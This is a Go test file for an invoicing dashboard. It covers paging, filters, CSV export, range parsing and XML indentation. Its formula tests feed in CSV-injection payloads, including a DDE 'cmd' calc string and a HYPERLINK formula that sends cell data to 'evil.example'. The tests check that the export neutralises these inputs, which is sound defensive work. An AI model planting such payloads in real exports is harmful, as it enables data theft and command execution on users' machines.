package dashboard_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/postbud/postbud/dashboard"
	"github.com/postbud/postbud/internal/ledger"
	"github.com/postbud/postbud/invoice"
)

// many enters n documents that wait for nobody, each in turn skipped or stopped.
func (r *rig) many(n int) {
	r.Helper()
	var page []ledger.Transaction
	for i := range n {
		key := ledger.Key{Subscription: "nordlys", Activation: "books", Ref: fmt.Sprint(i), Version: "1"}
		t := ledger.Transaction{Key: key, ID: key.ID(), State: ledger.Stopped, Code: "DOC-DUE", Kind: "invalid", Trigger: ledger.Manual,
			Head: ledger.Head{Number: fmt.Sprintf("N%04d", i), Kind: "invoice", IssueDate: invoice.Date{Year: 2026, Month: 3, Day: 1 + i%28},
				Receiver: fmt.Sprintf("Kunde %d", i%7), Currency: "DKK", TotalWithVAT: invoice.NewDecimal(int64(10050+i), 2)}}
		if i%2 == 1 {
			t.Head.Kind = "creditnote"
		}
		page = append(page, t)
	}
	_, err := r.store.Ledger.Enter(r.Context(), "nordlys", ledger.Page{Activation: "books", KeepCursor: true, Transactions: page})
	r.must(err)
}

var rowPattern = regexp.MustCompile(`>(N\d{4})</a>`)

func rows(text string) (all []string) {
	for _, m := range rowPattern.FindAllStringSubmatch(text, -1) {
		all = append(all, m[1])
	}
	return all
}

var nextPattern = regexp.MustCompile(`rel="(next|prev)" href="([^"]*)"`)

func beside(text, rel string) string {
	for _, m := range nextPattern.FindAllStringSubmatch(text, -1) {
		if m[1] == rel {
			return strings.ReplaceAll(m[2], "&amp;", "&")
		}
	}
	return ""
}

func TestTheListIsPagedThereAndBack(t *testing.T) {
	r := newRig(t)
	v := r.firstRun()
	r.many(120)
	var forth [][]string
	path := at + "/documents?group=all"
	for path != "" {
		text := v.page(path)
		forth = append(forth, rows(text))
		if next := beside(text, "next"); next != "" {
			path = next
			continue
		}
		if !strings.Contains(text, "101–120 of 120") {
			t.Errorf("the last page says %s", summary(text))
		}
		break
	}
	if len(forth) != 3 || len(forth[0]) != 50 || len(forth[2]) != 20 || forth[0][0] != "N0119" || forth[2][19] != "N0000" {
		t.Fatalf("the pages have %d, first %v", len(forth), forth[0][:3])
	}
	for at := len(forth) - 2; at >= 0; at-- {
		path = beside(v.page(path), "prev")
		text := v.page(path)
		if got := rows(text); !slices.Equal(got, forth[at]) {
			t.Fatalf("back on page %d there is %v, not %v", at, got[:3], forth[at][:3])
		}
		if says := fmt.Sprintf("%d–%d of 120", at*50+1, at*50+50); !strings.Contains(text, says) {
			t.Errorf("the page does not say %s", says)
		}
	}
}

func TestFiltersStandInTheAddress(t *testing.T) {
	r := newRig(t)
	v := r.firstRun()
	r.many(28)
	for query, want := range map[string]int{
		"group=all": 28, "group=needs_you": 28, "group=done": 0, "": 28,
		"group=all&kind=creditnote": 14, "group=all&q=n0003": 1, "group=all&q=Kunde+3": 4,
		"group=all&from=2026-03-27": 2, "group=all&until=2026-03-02": 2, "group=all&state=stopped": 28, "group=all&state=failed": 0,
		"group=all&code=DOC-DUE": 28, "group=all&code=DUP": 0, "group=nonsense&state=nonsense&from=x": 28, "group=all&adaptor=books": 28, "group=all&adaptor=none": 0,
	} {
		if got := rows(v.page(at + "/documents?" + query)); len(got) != want {
			t.Errorf("%s has %d rows, not %d", query, len(got), want)
		}
	}
	text := v.page(at + "/documents?group=all&q=nothing-like-it")
	if !strings.Contains(text, "No documents match.") || !strings.Contains(text, "Clear the filter") {
		t.Errorf("nothing found says %s", summary(text))
	}
}

func TestCSVComesInTwoKinds(t *testing.T) {
	r := newRig(t)
	v := r.firstRun()
	r.many(3)
	v.submit("/me", "/me", "name", "Anna", "language", "da")
	got := v.get(at + "/documents/csv?csv=excel&group=all")
	if got.status != http.StatusOK || !strings.HasPrefix(got.text, "\uFEFF") {
		t.Fatalf("for Excel it answers %d %q", got.status, got.text)
	}
	read := csv.NewReader(strings.NewReader(strings.TrimPrefix(got.text, "\uFEFF")))
	read.Comma = ';'
	table, err := read.ReadAll()
	r.must(err)
	if len(table) != 4 || table[1][0] != "N0002" || table[1][8] != "100,52" || table[2][8] != "-100,51" || table[1][13] != "Stoppet" {
		t.Errorf("for Excel the rows are %q", table[1:])
	}
	got = v.get(at + "/documents/csv?csv=systems&group=all&kind=creditnote")
	table, err = csv.NewReader(strings.NewReader(got.text)).ReadAll()
	r.must(err)
	if len(table) != 2 || table[1][0] != "N0001" || table[1][8] != "-100.51" || table[1][13] != "stopped" {
		t.Errorf("for systems the rows are %q", table[1:])
	}
}

func TestFormulasAreDefused(t *testing.T) {
	for cell, want := range map[string]string{
		"=1+1": "'=1+1", "+45 12": "'+45 12", "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0", "@SUM(A1)": "'@SUM(A1)", " =1": "' =1", "\t=1": "'\t=1", "＝1": "'＝1",
		"-100,50": "-100,50", "-100.50": "-100.50", "+4512": "+4512", "Coop": "Coop", "": "", "a=1": "a=1",
	} {
		if got := dashboard.Defused(cell); got != want {
			t.Errorf("%q becomes %q, not %q", cell, got, want)
		}
	}
}

// TestT14AFormulaInADocumentIsNoneInTheDownload names customers and orders like
// formulas, and reads the file as a spreadsheet does.
func TestT14AFormulaInADocumentIsNoneInTheDownload(t *testing.T) {
	r := newRig(t)
	v := r.firstRun()
	const formula = `=HYPERLINK("https://evil.example?"&A1,"pay here")`
	var page []ledger.Transaction
	for i, text := range []string{formula, "+45 12 34 56 78", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "＝1+1", "a;=1\n=2"} {
		key := ledger.Key{Subscription: "nordlys", Activation: "books", Ref: text, Version: "1"}
		page = append(page, ledger.Transaction{Key: key, ID: key.ID(), State: ledger.Stopped, Code: "DOC-DUE", Trigger: ledger.Manual, Cause: text,
			Head: ledger.Head{Number: fmt.Sprint(text, i), Kind: "creditnote", Sender: text, Receiver: text, PurchaseOrder: text, SalesOrder: text, Currency: "DKK",
				IssueDate: invoice.Date{Year: 2026, Month: 3, Day: 1}, TotalWithVAT: invoice.NewDecimal(10050, 2)}})
	}
	_, err := r.store.Ledger.Enter(t.Context(), "nordlys", ledger.Page{Activation: "books", KeepCursor: true, Transactions: page})
	r.must(err)
	read := csv.NewReader(strings.NewReader(strings.TrimPrefix(v.get(at+"/documents/csv?csv=excel&group=all").text, "\uFEFF")))
	read.Comma = ';'
	table, err := read.ReadAll()
	r.must(err)
	if len(table) != 9 {
		t.Fatalf("there are %d rows", len(table))
	}
	seen := 0
	for _, row := range table[1:] {
		for i, cell := range row {
			first := strings.TrimLeft(cell, " \t\r\n")
			if i == 8 && cell == "-100.50" { // an amount is a number
				continue
			}
			if strings.ContainsAny(first[:min(1, len(first))], "=+-@") || strings.HasPrefix(first, "＝") {
				t.Errorf("column %d is the formula %q", i, cell)
			}
			if strings.HasPrefix(cell, "'") {
				seen++
			}
		}
	}
	if seen < 30 {
		t.Errorf("only %d cells were defused", seen)
	}
}

func TestRangesOfNumbers(t *testing.T) {
	for text, want := range map[string]string{
		"10400-10402, 10433": "10400 10401 10402 10433", "7": "7", "0098-0101": "0098 0099 0100 0101", "A-17 B": "A-17 B", "2026-0001": "!",
		"5-3": "!", "1-2000": "!", "": "", " , ;": "",
	} {
		got, err := dashboard.Ranges(text)
		said := strings.Join(got, " ")
		if err != nil {
			said = "!"
		}
		if said != want {
			t.Errorf("%q is %q, not %q", text, said, want)
		}
	}
}

func TestXMLIsIndentedForReadingAlone(t *testing.T) {
	got := dashboard.IndentXML(`<?xml version="1.0"?><a><b>1</b><c/><d><e>x &lt; y</e></d></a>`)
	want := "<?xml version=\"1.0\"?>\n<a>\n  <b>1</b>\n  <c/>\n  <d>\n    <e>x &lt; y</e>\n  </d>\n</a>"
	if got != want {
		t.Errorf("it is\n%s", got)
	}
}
